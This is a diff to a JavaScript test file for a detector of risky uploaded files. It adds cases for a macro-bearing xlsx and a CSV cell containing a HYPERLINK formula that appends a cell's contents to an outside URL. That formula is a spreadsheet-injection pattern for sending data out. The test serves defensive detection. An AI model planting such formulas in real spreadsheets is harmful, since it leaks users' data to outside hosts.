@@ -343,6 +343,8 @@ describe('hostile files', () => {
       ['@echo off', 'run.bat', 'text', 'program'],
       ['PK\x03\x04....word/document.xml....vbaProject.bin', 'letter.docx', 'none', 'macros'],
       ['PK\x03\x04....word/document.xml', 'letter.docx', 'none', null],
+      ['PK\x03\x04....xl/workbook.xml....xl/vbaProject.bin', 'list.xlsx', 'none', 'macros'],
+      ['=HYPERLINK("http://example.org/?"&A1)', 'list.csv', 'text', 'formulas'],
       ['%PDF-1.4 /OpenAction << /S /Launch >>', 'x.hta', 'pdf', 'program'],
     ];
     for (const [content, name, viewer, warning] of cases) {
